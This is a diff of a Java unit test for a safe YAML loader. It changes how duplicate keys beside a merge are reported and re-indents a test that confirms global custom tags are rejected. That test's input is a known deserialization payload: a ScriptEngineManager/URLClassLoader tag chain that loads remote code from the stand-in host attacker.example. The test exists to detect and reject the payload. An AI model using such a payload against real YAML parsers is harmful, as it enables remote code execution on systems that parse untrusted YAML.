@@ -295,13 +295,16 @@ class SafeYamlLoaderTest {
                   <<: *base
                   region: us-east-1
                 """));
+        // YAML lets the explicit key win; the installer's strict parse (yaml.v2) calls it a duplicate.
+        List<YamlProblem> problems = load("base: &base\n  a: 1\nchild:\n  <<: *base\n  a: 2\n")
+                .documents()
+                .get(0)
+                .problems();
+        assertEquals(1, problems.size(), problems::toString);
+        assertEquals(YamlProblem.Kind.DUPLICATE_KEY, problems.get(0).kind());
         assertTrue(
-                load("base: &base\n  a: 1\nchild:\n  <<: *base\n  a: 2\n")
-                        .documents()
-                        .get(0)
-                        .problems()
-                        .isEmpty(),
-                "an explicit key beside a merge is not a duplicate");
+                problems.get(0).message().contains("at line 2 and at line 5"),
+                problems.get(0).message());
         YamlMapping s3 = root.mapping("s3storage").orElseThrow();
         assertEquals("us-east-1", s3.text("region").orElseThrow());
         assertEquals("shared", s3.text("bucket").orElseThrow());
@@ -327,9 +330,9 @@ class SafeYamlLoaderTest {
     @Test
     void globalCustomTagIsASyntaxProblemWithItsPosition() {
         LoadedFile file = load("""
-                domain: gitpod.example.com
-                exploit: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/"]]]]
-                """);
+            domain: gitpod.example.com
+            exploit: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/"]]]]
+            """);
         YamlProblem problem = fileProblem(file);
         assertAt(problem, 2, 10);
         assertTrue(problem.message().contains("tag"), problem.message());
